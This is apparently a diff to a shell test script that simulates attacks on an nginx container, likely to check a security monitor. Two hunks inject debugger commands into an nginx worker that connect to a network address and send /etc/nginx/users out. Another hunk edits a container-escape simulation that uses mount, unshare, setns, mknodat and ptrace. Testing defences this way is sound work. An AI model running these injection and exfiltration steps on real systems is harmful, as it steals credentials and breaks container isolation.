@@ -252,7 +252,7 @@ attack_code_connect() {
 	# shellcheck disable=SC2016 # the debugger's variables
 	inject_pid "$(tasks_named nginx 'nginx: worker' | head -n 1)" 'set $a = (char *) malloc(256)' \
 		'set {long} $a = 0x0100580a5c110002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
-		'print (int) connect($s, $a, 16)' 'set $f = (int) open("/etc/nginx/users", 0)' \
+		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' 'set $f = (int) open("/etc/nginx/users", 0)' \
 		'print (long) sendfile($s, $f, 0, 4096)' 'print (int) close($f)' 'print (int) close($s)'
 	thief_got editor
 }
@@ -301,7 +301,7 @@ attack_escape() {
 	harm call mount
 	harm call unshare
 	harm call setns
-	harm call mknod
+	harm call mknodat
 	harm call ptrace
 	inject_pid "${container_pid[nginx]}" 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
 		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
@@ -338,7 +338,7 @@ adaptive_upstream() {
 	# shellcheck disable=SC2016 # the debugger's variables
 	inject_pid "$(tasks_named nginx 'nginx: worker' | head -n 1)" 'set $a = (char *) malloc(4096)' \
 		'set {long} $a = 0x0100580a401f0002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
-		'print (int) connect($s, $a, 16)' 'set $f = (int) open("/etc/nginx/users", 0)' \
+		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' 'set $f = (int) open("/etc/nginx/users", 0)' \
 		'print (long) sendfile($s, $f, 0, 4096)' 'print (int) close($f)' 'print (int) close($s)'
 	# Its log has the first line, which is no request.
 	until_true 10 grep -q 'PLAIN' "$stage/peer-upstream.log"
